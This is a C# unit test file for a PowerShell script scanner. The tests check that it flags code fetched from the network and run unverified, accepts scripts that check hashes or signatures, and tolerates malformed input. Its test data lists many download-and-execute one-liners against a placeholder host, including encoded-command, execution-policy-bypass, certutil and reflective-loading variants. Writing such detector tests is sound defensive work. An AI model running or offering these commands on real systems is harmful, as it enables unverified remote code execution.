using ContainerSecurity.Shell.PowerShell;
using ContainerSecurity.Shell.Programs;

namespace Build.Tests.Shell.PowerShell;

public class PowerShellScriptTests
{
    [Theory]
    [InlineData("irm https://example.org/x | iex")]
    [InlineData("iwr -useb https://example.org/x | Invoke-Expression")]
    [InlineData("iex (iwr https://example.org/x)")]
    [InlineData("iex \"& { $(irm https://example.org/x) } -Force\"")]
    [InlineData("IEX(IRM https://example.org/x)")]
    [InlineData("(irm https://example.org/x) | . iex")]
    [InlineData("& iex (irm https://example.org/x)")]
    [InlineData("Invoke-Expression ((New-Object System.Net.WebClient).DownloadString('https://example.org/x'))")]
    [InlineData("iex ([Net.WebClient]::new()).DownloadString('https://example.org/x')")]
    [InlineData("iex (iwr https://example.org/x).Content")]
    [InlineData("(iwr https://example.org/x).Content | Out-String | iex")]
    [InlineData("irm https://example.org/x | % { iex $_ }")]
    [InlineData("& ([scriptblock]::Create((irm https://example.org/x))) -Yes")]
    [InlineData("[scriptblock]::Create((irm https://example.org/x)).Invoke()")]
    [InlineData("$ExecutionContext.InvokeCommand.InvokeScript((irm https://example.org/x))")]
    [InlineData("Invoke-Command -ScriptBlock ([scriptblock]::Create((irm https://example.org/x)))")]
    [InlineData("$s = irm https://example.org/x; iex $s")]
    [InlineData("$s=irm https://example.org/x;iex $s")]
    [InlineData("$c = New-Object Net.WebClient; $t = $c.DownloadString('https://example.org/x'); Invoke-Expression -Command $t")]
    [InlineData("$b = (iwr https://example.org/x).RawContentStream; iex ([Text.Encoding]::UTF8.GetString($b.ToArray()))")]
    [InlineData("Set-Variable s (irm https://example.org/x); iex $s")]
    [InlineData("$env:S = irm https://example.org/x; iex $env:S")]
    [InlineData("function Get-It { irm https://example.org/x }; iex (Get-It)")]
    [InlineData("function Run($t) { iex $t }; Run (irm https://example.org/x)")]
    [InlineData("foreach ($u in (irm https://example.org/x)) { iex $u }")]
    [InlineData("if($IsWindows){irm https://example.org/x|iex}else{exit 1}")]
    [InlineData("foreach($u in $list){ Write-Host $u; irm $u | iex }")]
    [InlineData("@(1, 2).ForEach{ irm https://example.org/x | iex }")]
    [InlineData("try { irm https://example.org/x | iex } catch { throw }")]
    [InlineData("if ($IsWindows) { irm https://example.org/x | iex }")]
    [InlineData("powershell -NoProfile -ExecutionPolicy Bypass -Command \"irm https://example.org/x | iex\"")]
    [InlineData("powershell -c 'iex (irm https://example.org/x)'")]
    [InlineData("pwsh -Command { irm https://example.org/x | iex }")]
    [InlineData("irm https://example.org/x | pwsh -Command -")]
    [InlineData("irm https://example.org/x | powershell -")]
    [InlineData("curl https://example.org/x | cmd")]
    [InlineData("curl https://example.org/x | cmd.exe /q /k")]
    [InlineData("cmd /c (irm https://example.org/x)")]
    [InlineData("irm https://example.org/x.py | python -")]
    [InlineData("cmd /c \"powershell -c irm https://example.org/x | iex\"")]
    [InlineData("msiexec /i https://example.org/x.msi /qn")]
    [InlineData("[Reflection.Assembly]::Load((iwr https://example.org/x.dll).Content)")]
    [InlineData("irm https://example.org/x `\n  | iex")]
    [InlineData("irm https://example.org/x |\n  iex")]
    [InlineData("curl.exe -fsSL https://example.org/x | iex")]
    public void Fetched_text_that_is_run_is_found(string text) =>
        Assert.Contains(PowerShellScript.FindFaults($"$a = 1\n{text}\n"), fault => fault is { Line: >= 2, Kind: FaultKind.RunUnseen });

    [Theory]
    [InlineData("Invoke-WebRequest -Uri https://example.org/x.ps1 -OutFile x.ps1; .\\x.ps1")]
    [InlineData("iwr https://example.org/x.ps1 -OutFile x.ps1\n& ./x.ps1 -Force")]
    [InlineData("iwr https://example.org/x.ps1 -OutFile x.ps1\n. .\\x.ps1")]
    [InlineData("iwr https://example.org/x.ps1 -o x.ps1; powershell -File x.ps1")]
    [InlineData("$f = \"$env:TEMP\\x.exe\"; iwr https://example.org/x.exe -OutFile $f; & $f /S")]
    [InlineData("$f = New-TemporaryFile; iwr https://example.org/x.exe -OutFile $f; Start-Process $f")]
    [InlineData("iwr https://example.org/x.msi -OutFile C:\\x.msi; Start-Process msiexec.exe -ArgumentList '/i C:\\x.msi /qn' -Wait")]
    [InlineData("iwr https://example.org/x.msi -OutFile x.msi; msiexec /i x.msi /qn")]
    [InlineData("Start-BitsTransfer https://example.org/x.exe C:\\x.exe; Start-Process C:\\x.exe -Wait")]
    [InlineData("Start-BitsTransfer -Source https://example.org/x.exe -Destination x.exe; .\\x.exe")]
    [InlineData("(New-Object Net.WebClient).DownloadFile('https://example.org/x.exe', 'x.exe'); .\\x.exe")]
    [InlineData("curl.exe -fsSLo x.exe https://example.org/x.exe; .\\x.exe")]
    [InlineData("curl.exe -O https://example.org/x.exe; .\\x.exe")]
    [InlineData("irm https://example.org/x > x.ps1; .\\x.ps1")]
    [InlineData("irm https://example.org/x | Out-File x.ps1; .\\x.ps1")]
    [InlineData("irm https://example.org/x | Set-Content -Path x.ps1; & .\\x.ps1")]
    [InlineData("iwr https://example.org/x -OutFile a.txt; Copy-Item a.txt b.ps1; .\\b.ps1")]
    [InlineData("iwr https://example.org/x.zip -OutFile x.zip; Expand-Archive x.zip -DestinationPath C:\\tool; C:\\tool\\bin\\t.exe")]
    [InlineData("iwr https://example.org/x.py -OutFile x.py; python x.py")]
    [InlineData("certutil -urlcache -split -f https://example.org/x.exe x.exe; .\\x.exe")]
    public void A_fetched_file_that_is_run_unchecked_is_found(string text) =>
        Assert.Contains(PowerShellScript.FindFaults(text), fault => fault.Kind == FaultKind.RunUnverified);

    [Theory]
    [InlineData("if ((Get-FileHash x.exe).Hash -ne 'AA') { Write-Host 'wrong' }")]
    [InlineData("Get-FileHash x.exe")]
    [InlineData("if ((Get-FileHash y.exe).Hash -ne 'AA') { throw 'wrong' }")]
    [InlineData("if ((Get-FileHash x.exe).Hash) { throw 'wrong' }")]
    [InlineData("if ((Get-FileHash x.exe).Hash -eq 'AA') { exit 0 }")]
    public void What_compares_nothing_or_stops_nothing_is_no_check(string check) =>
        Assert.NotEmpty(PowerShellScript.FindFaults($"iwr https://example.org/x.exe -OutFile x.exe; {check}; .\\x.exe"));

    [Theory]
    [InlineData("if ((Get-FileHash x.exe -Algorithm SHA256).Hash -ne 'AA') { throw 'wrong' }; .\\x.exe")]
    [InlineData("if ((Get-FileHash x.exe).Hash -ne 'AA') { Write-Error 'wrong'; exit 1 } .\\x.exe")]
    [InlineData("$h = (Get-FileHash x.exe).Hash; if ($h -ne $env:SUM) { throw 'wrong' }; .\\x.exe")]
    [InlineData("$h = Get-FileHash -Path x.exe\nif ($h.Hash -eq $sum) {\n  Start-Process x.exe\n} else {\n  throw 'wrong'\n}")]
    [InlineData("if (-not ((Get-FileHash x.exe).Hash -eq 'AA')) { throw 'wrong' }; .\\x.exe")]
    [InlineData("if ((Get-FileHash x.exe).Hash -eq 'AA') { .\\x.exe }")]
    [InlineData("if ((Get-AuthenticodeSignature x.exe).Status -ne 'Valid') { throw 'unsigned' }; .\\x.exe")]
    public void A_file_whose_digest_is_compared_may_run(string rest) =>
        Assert.Empty(PowerShellScript.FindFaults($"iwr https://example.org/x.exe -OutFile x.exe; {rest}"));

    [Theory]
    [InlineData("Invoke-WebRequest -Uri $url -OutFile $file")]
    [InlineData("# irm https://example.org/x | iex")]
    [InlineData("<# irm https://example.org/x | iex #>")]
    [InlineData("Invoke-Expression $command")]
    [InlineData("Write-Host 'irm https://example.org/x | iex'")]
    [InlineData("$r = irm https://example.org/x; Write-Output $r.version")]
    [InlineData("$v = (irm https://example.org/x).tag_name; Write-Host \"newest is $v\"")]
    [InlineData("iwr https://example.org/x.zip -OutFile x.zip; Expand-Archive x.zip; Remove-Item x.zip")]
    [InlineData("irm https://example.org/x | ConvertTo-Json | Set-Content data.json")]
    [InlineData("iwr https://example.org/x.json -OutFile x.json; Get-Content x.json | ConvertFrom-Json")]
    [InlineData("iwr https://example.org/health | Out-Null; .\\serve.exe")]
    [InlineData("dotnet build; .\\bin\\app.exe")]
    [InlineData("curl https://example.org/x | cmd /c \"findstr tag\"")]
    [InlineData("cmd /c \"curl https://example.org/x\"")]
    [InlineData("@'\nirm https://example.org/x | iex\n'@ | Write-Host")]
    public void What_is_only_fetched_or_only_run_is_left_alone(string text) => Assert.Empty(PowerShellScript.FindFaults(text));

    [Fact]
    public void A_file_that_an_earlier_script_saved_is_remembered()
    {
        var memory = new PowerShellMemory();

        Assert.Empty(PowerShellScript.FindFaults("iwr https://example.org/x.exe -OutFile C:\\x.exe", memory));
        Assert.Equal([1], PowerShellScript.FindFaults("C:\\x.exe /S", memory).Select(fault => fault.Line));
    }

    [Fact]
    public void An_encoded_command_is_read()
    {
        var encoded = Convert.ToBase64String(System.Text.Encoding.Unicode.GetBytes("irm https://example.org/x | iex"));

        Assert.Equal(
            [new CommandFault(FaultKind.RunUnseen, "what is fetched is given to iex", 2)], PowerShellScript.FindFaults($"\npowershell -e {encoded}"));
    }

    [Theory]
    [InlineData("((((((((((")]
    [InlineData("iex (irm 'x")]
    [InlineData("@\"\nirm")]
    [InlineData("$x = ; | } ) ] , & &&")]
    [InlineData("`")]
    [InlineData("<# open")]
    public void Any_text_can_be_read(string text) => Assert.NotNull(PowerShellScript.FindFaults(text));

    [Fact]
    public void Deep_brackets_are_read_without_exhausting_the_stack() => Assert.Empty(PowerShellScript.FindFaults(new string('(', 100_000)));
}
